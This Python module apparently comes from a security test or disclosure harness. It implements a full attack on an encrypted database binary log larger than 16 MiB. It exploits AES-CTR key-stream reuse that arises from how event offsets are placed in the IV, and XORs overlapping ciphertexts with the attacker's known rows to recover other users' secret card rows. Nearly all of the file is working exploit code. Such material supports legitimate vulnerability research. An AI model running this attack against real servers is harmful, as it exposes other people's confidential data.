"""Reads rows out of a binary log of more than 16 MiB, in which aes_ctr uses its key stream twice.

The IV of an event ends with the event's offset, lowest byte first, and the counter of aes_ctr counts in the last byte, which
is the offset's highest. So the second block of an event has the counter of the first block of one that begins 16 MiB
later, to the byte; its third block that of one 32 MiB later. Whoever knows a row of one reads what is in the other.
"""

import hashlib
import re

from aes import xor
from binary_log import events
from server import Failure

ROWS = 260_000
APART = 1 << 24
# Rows of the attacker's, which he knows, and rows of others, each of some length and in no order.
MINE = b"a" * 1024
SECRET = re.compile(rb"card [0-9a-f]{12}")
INSERT = f"""INSERT INTO shop.notes SELECT IF(CRC32(seq * 7) % 2,
               REPEAT('a', 60 + CRC32(seq) % 100),
               CONCAT('card ', SUBSTR(SHA2(CONCAT('secret of ', seq), 256), 1, 12), REPEAT('.', CRC32(seq) % 100)))
             FROM shop.seq_1_to_{ROWS}"""


def pairs(log):
    """Pairs of events of which a later block of the first has the counter of the second's first block, and which block."""
    # IVs as the numbers that the counter counts on from.
    by_iv = {int.from_bytes(event.iv, "big"): event for event in events(log)}
    for iv, event in by_iv.items():
        for number in range(1, len(event.cipher) // 16):
            if other := by_iv.get(iv + number):
                yield event, number, other


def attack(site, store):
    """A row of someone else's; None if nothing can be read."""
    host = site.bare(store)
    host.more = ["binlog_row_event_max_size = 256"]
    host.start()
    # A table that keeps nothing, but whose rows are logged: the attack is on the binary log.
    host.sql("INSTALL SONAME 'ha_blackhole'", "CREATE DATABASE shop",
             "CREATE TABLE shop.notes (note VARCHAR(200) NOT NULL) ENGINE=BLACKHOLE", INSERT, "FLUSH BINARY LOGS")
    log = host.data / "binlog.000001"
    if log.stat().st_size < APART:
        raise Failure("the binary log is too short")
    found = list(pairs(log))
    if not found:
        raise Failure("no two events are as far apart as this attack needs them")
    looks = {match[0] for one, number, other in found for match in
             SECRET.finditer(xor(xor(one.cipher[16 * number:], other.cipher), MINE))}
    # Where a row of the attacker's ends, what looks like a row of someone else's may be none.
    read = looks & {b"card " + hashlib.sha256(b"secret of %d" % row).hexdigest()[:12].encode() for row in range(1, ROWS + 1)}
    if len(looks) > 2 * len(read):
        raise Failure(f"{len(looks)} rows look like some that were written, and {len(read)} are")
    site.measured(f"{log.stat().st_size / (1 << 20):.1f} MiB, {len(found)} pairs of events with a counter in common, "
                  f"{len(read)} rows read")
    return f"rows of others, such as: {min(read).decode()}" if read else None
